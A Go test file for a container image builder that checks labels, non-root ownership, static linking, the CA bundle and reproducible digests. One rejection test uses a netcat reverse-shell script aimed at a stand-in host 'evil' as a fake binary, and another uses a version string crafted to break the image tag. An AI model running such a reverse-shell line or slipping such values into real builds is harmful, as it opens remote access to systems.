package imagebuild

import (
	"archive/tar"
	"bytes"
	"crypto/x509"
	"debug/elf"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/go-containerregistry/pkg/v1/types"
)

// staticBinary builds, once for the package's tests, a small Go program
// the way scripts/image builds pushback (CGO_ENABLED=0, -trimpath), so
// that the tests stay fast.
var staticBinary = sync.OnceValues(func() ([]byte, error) {
	dir, err := os.MkdirTemp("", "imagebuild-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	src := "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"pushback\") }\n"
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
		return nil, err
	}
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module hello\n\ngo 1.22\n"), 0o644); err != nil {
		return nil, err
	}
	cmd := exec.Command("go", "build", "-trimpath", "-ldflags=-s -w", "-o", "hello", ".")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOARCH="+runtime.GOARCH, "GOWORK=off", "GOFLAGS=")
	if out, err := cmd.CombinedOutput(); err != nil {
		return nil, fmt.Errorf("go build: %v\n%s", err, out)
	}
	return os.ReadFile(filepath.Join(dir, "hello"))
})

func testSpec(t *testing.T) Spec {
	t.Helper()
	if _, ok := machines[runtime.GOARCH]; !ok {
		t.Fatalf("the image is built for amd64 and arm64, and this test builds for %s", runtime.GOARCH)
	}
	bin, err := staticBinary()
	if err != nil {
		t.Fatal(err)
	}
	return Spec{
		Binary:   bin,
		CABundle: CABundle(),
		Arch:     runtime.GOARCH,
		Created:  time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC),
		Source:   "https://github.com/pushbackhq/pushback",
		Revision: "0123456789abcdef0123456789abcdef01234567",
		Version:  "v1.2.3",
	}
}

func writeTarball(t *testing.T, img v1.Image, s Spec) string {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, img, "pushback", s.Version, s.Created); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "pushback.tar")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// files reads the image's one layer: name to header and content.
func files(t *testing.T, img v1.Image) (map[string]*tar.Header, map[string][]byte) {
	t.Helper()
	layers, err := img.Layers()
	if err != nil {
		t.Fatal(err)
	}
	if len(layers) != 1 {
		t.Fatalf("%d layers, want 1 on an empty base", len(layers))
	}
	rc, err := layers[0].Uncompressed()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	hdrs, bodies := map[string]*tar.Header{}, map[string][]byte{}
	tr := tar.NewReader(rc)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		name := "/" + strings.TrimSuffix(h.Name, "/")
		hdrs[name], bodies[name] = h, b
	}
	return hdrs, bodies
}

// TestTarballLoadsWithEntrypointUserAndLabels loads the written tarball
// as crane push and docker load do (manifest.json) and as OCI tools do
// (index.json), and checks what the image promises.
func TestTarballLoadsWithEntrypointUserAndLabels(t *testing.T) {
	s := testSpec(t)
	built, err := Build(s)
	if err != nil {
		t.Fatal(err)
	}
	want, err := built.Digest()
	if err != nil {
		t.Fatal(err)
	}
	path := writeTarball(t, built, s)

	// docker-style: the manifest crane rebuilds and pushes has the digest
	// Build printed, so the digest pinned in the kustomization is the one
	// the registry will serve.
	img, err := tarball.ImageFromPath(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := img.Digest(); err != nil || got != want {
		t.Fatalf("manifest.json image digest %v (%v), built %v", got, err, want)
	}

	// OCI layout: index.json names the same manifest.
	dir := t.TempDir()
	untar(t, path, dir)
	idx, err := layout.ImageIndexFromPath(dir)
	if err != nil {
		t.Fatal(err)
	}
	im, err := idx.IndexManifest()
	if err != nil {
		t.Fatal(err)
	}
	if len(im.Manifests) != 1 || im.Manifests[0].Digest != want || im.Manifests[0].Annotations[RefNameAnnotation] != s.Version {
		t.Fatalf("index.json manifests %+v, want one with digest %v and ref %s", im.Manifests, want, s.Version)
	}
	fromLayout, err := idx.Image(want)
	if err != nil {
		t.Fatal(err)
	}
	if mt, _ := fromLayout.MediaType(); mt != types.DockerManifestSchema2 {
		t.Errorf("manifest media type %s", mt)
	}

	cfg, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(cfg.Config.Entrypoint, []string{BinaryPath}) || !slices.Equal(cfg.Config.Cmd, []string{"serve"}) {
		t.Errorf("entrypoint %q cmd %q", cfg.Config.Entrypoint, cfg.Config.Cmd)
	}
	if cfg.Config.User != "65532:65532" {
		t.Errorf("user %q, want the numeric non-root 65532:65532", cfg.Config.User)
	}
	if cfg.OS != "linux" || cfg.Architecture != s.Arch || !cfg.Created.Time.Equal(s.Created) {
		t.Errorf("os %s arch %s created %v", cfg.OS, cfg.Architecture, cfg.Created)
	}
	for k, v := range map[string]string{
		"org.opencontainers.image.source":   s.Source,
		"org.opencontainers.image.revision": s.Revision,
		"org.opencontainers.image.version":  s.Version,
		"org.opencontainers.image.created":  "2026-11-30T12:00:00Z",
	} {
		if got := cfg.Config.Labels[k]; got != v {
			t.Errorf("label %s = %q, want %q", k, got, v)
		}
	}

	hdrs, bodies := files(t, img)
	bin, ok := hdrs[BinaryPath]
	if !ok {
		t.Fatalf("no %s in the layer; files: %v", BinaryPath, keys(hdrs))
	}
	if bin.Mode != 0o755 || bin.Uid != 0 || !bytes.Equal(bodies[BinaryPath], s.Binary) {
		t.Errorf("binary mode %o uid %d, same bytes %v", bin.Mode, bin.Uid, bytes.Equal(bodies[BinaryPath], s.Binary))
	}
	f, err := elf.NewFile(bytes.NewReader(bodies[BinaryPath]))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			t.Error("the binary in the image asks for a dynamic loader the empty base does not have")
		}
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(bodies[CABundlePath]) || len(bodies[CABundlePath]) < 100_000 {
		t.Errorf("CA bundle at %s: %d bytes, not a root store", CABundlePath, len(bodies[CABundlePath]))
	}
	if !strings.Contains(string(bodies["/etc/passwd"]), "nonroot:x:65532:65532:") || !strings.Contains(string(bodies["/etc/group"]), "nonroot:x:65532:") {
		t.Errorf("passwd %q group %q lack the user", bodies["/etc/passwd"], bodies["/etc/group"])
	}
	// The user owns its home and the data directory and nothing else:
	// it cannot replace the binary, the CA bundle or passwd.
	for name, h := range hdrs {
		owned := name == "/home/nonroot" || name == DataDir
		if owned != (h.Uid == UID) {
			t.Errorf("%s owned by %d", name, h.Uid)
		}
		if !owned && h.Typeflag == tar.TypeReg && h.Mode&0o022 != 0 {
			t.Errorf("%s mode %o is writable by others", name, h.Mode)
		}
		if !h.ModTime.Equal(s.Created) {
			t.Errorf("%s modified %v, want the build time %v", name, h.ModTime, s.Created)
		}
	}
}

func untar(t *testing.T, path, dir string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := tar.NewReader(f)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		if !filepath.IsLocal(h.Name) {
			t.Fatalf("tarball entry %q escapes the directory", h.Name)
		}
		p := filepath.Join(dir, h.Name)
		if h.Typeflag == tar.TypeDir {
			if err := os.MkdirAll(p, 0o755); err != nil {
				t.Fatal(err)
			}
			continue
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func keys[V any](m map[string]V) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	slices.Sort(ks)
	return ks
}

// TestBuildIsReproducible: the same inputs give the same digest and the
// same tarball, byte for byte; the time is an input, the clock is not.
func TestBuildIsReproducible(t *testing.T) {
	s := testSpec(t)
	var digests []v1.Hash
	var tarballs [][]byte
	for range 2 {
		img, err := Build(s)
		if err != nil {
			t.Fatal(err)
		}
		d, err := img.Digest()
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := Write(&buf, img, "pushback", s.Version, s.Created); err != nil {
			t.Fatal(err)
		}
		digests, tarballs = append(digests, d), append(tarballs, buf.Bytes())
	}
	if digests[0] != digests[1] || !bytes.Equal(tarballs[0], tarballs[1]) {
		t.Fatalf("two builds differ: %v %v, tarballs equal %v", digests[0], digests[1], bytes.Equal(tarballs[0], tarballs[1]))
	}
	later := s
	later.Created = s.Created.Add(time.Second)
	img, err := Build(later)
	if err != nil {
		t.Fatal(err)
	}
	if d, _ := img.Digest(); d == digests[0] {
		t.Fatal("another build time gave the same digest: the time is not in the image")
	}
}

// TestBuildRefusesWhatWouldNotRunOrTrace: a binary that needs a loader
// the empty base lacks, one for another machine, something that is not
// an executable, an empty or forged CA bundle, and labels or a tag that
// would break out of manifest.json's name are refused, not built.
func TestBuildRefusesWhatWouldNotRunOrTrace(t *testing.T) {
	good := testSpec(t)
	dynamic := dynamicBinary(t)
	other := "arm64"
	if good.Arch == "arm64" {
		other = "amd64"
	}
	pemNotCert := pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: []byte("x")})
	for _, tc := range []struct {
		name   string
		change func(*Spec)
		want   string
	}{
		{"dynamically linked binary", func(s *Spec) { s.Binary = dynamic }, "PT_INTERP"},
		{"binary for another machine", func(s *Spec) { s.Arch = other }, "is for"},
		{"unknown arch", func(s *Spec) { s.Arch = "riscv64" }, "arch"},
		{"shell script", func(s *Spec) { s.Binary = []byte("#!/bin/sh\nexec nc -e /bin/sh evil 1\n") }, "not an ELF"},
		{"no binary", func(s *Spec) { s.Binary = nil }, "is empty"},
		{"empty CA bundle", func(s *Spec) { s.CABundle = nil }, "no certificates"},
		{"key in the CA bundle", func(s *Spec) { s.CABundle = append(CABundle(), pemNotCert...) }, "not a certificate"},
		{"garbage after the CA bundle", func(s *Spec) { s.CABundle = append(CABundle(), "junk"...) }, "trailing"},
		{"no build time", func(s *Spec) { s.Created = time.Time{} }, "created"},
		{"revision that is no commit", func(s *Spec) { s.Revision = "main" }, "revision"},
		{"version that breaks the tag", func(s *Spec) { s.Version = "v1:evil/other" }, "version"},
		{"plain http source", func(s *Spec) { s.Source = "http://example.com/x" }, "source"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := good
			tc.change(&s)
			_, err := Build(s)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Build: %v, want an error about %q", err, tc.want)
			}
		})
	}
}

// dynamicBinary is a dynamically linked ELF for this machine: the
// system's own true(1), as every Linux distribution builds it.
func dynamicBinary(t *testing.T) []byte {
	t.Helper()
	for _, p := range []string{"/bin/true", "/usr/bin/true"} {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		f, err := elf.NewFile(bytes.NewReader(b))
		if err != nil {
			continue
		}
		for _, prog := range f.Progs {
			if prog.Type == elf.PT_INTERP {
				return b
			}
		}
	}
	t.Fatal("no dynamically linked true(1) on this machine to play a dynamic binary")
	return nil
}

func TestCABundleIsPinnedAndUnconstrained(t *testing.T) {
	b := CABundle()
	if !bytes.Equal(b, CABundle()) {
		t.Fatal("the CA bundle differs between calls")
	}
	n, err := countCerts(b)
	if err != nil {
		t.Fatal(err)
	}
	// NSS has well over a hundred roots; a short bundle means the module
	// changed shape, and the image would fail TLS to IdPs.
	if n < 100 {
		t.Fatalf("%d roots", n)
	}
}
